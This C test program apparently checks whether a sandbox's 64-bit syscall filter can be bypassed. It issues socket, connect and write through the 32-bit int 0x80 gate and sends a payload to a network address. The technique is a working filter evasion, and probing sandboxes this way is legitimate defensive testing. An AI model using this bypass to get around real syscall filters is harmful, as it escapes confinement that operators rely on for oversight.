/*
 * System calls through the 32-bit door (int 0x80): other numbers, other structures, and
 * a filter of 64-bit calls does not know them.
 */
#include "trick.h"

static long call32(long number, long a, long b, long c, long d, long e)
{
	long result;

	asm volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory", "r8", "r9", "r10", "r11");
	if (result < 0) {
		errno = -result;
		die("int 0x80");
	}
	return result;
}

int main(void)
{
	/* Pointers must fit into 32 bits. */
	struct {
		struct sockaddr_in to;
		char text[sizeof(PAYLOAD)];
	} *low = (void *)must(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
	int fd;

	low->to = there();
	strcpy(low->text, PAYLOAD);
	acted();
	fd = call32(359, AF_INET, SOCK_STREAM, 0, 0, 0);
	call32(362, fd, (long)&low->to, sizeof(low->to), 0, 0);
	call32(4, fd, (long)low->text, sizeof(PAYLOAD), 0, 0);
	expect_echo(fd);
	return 0;
}
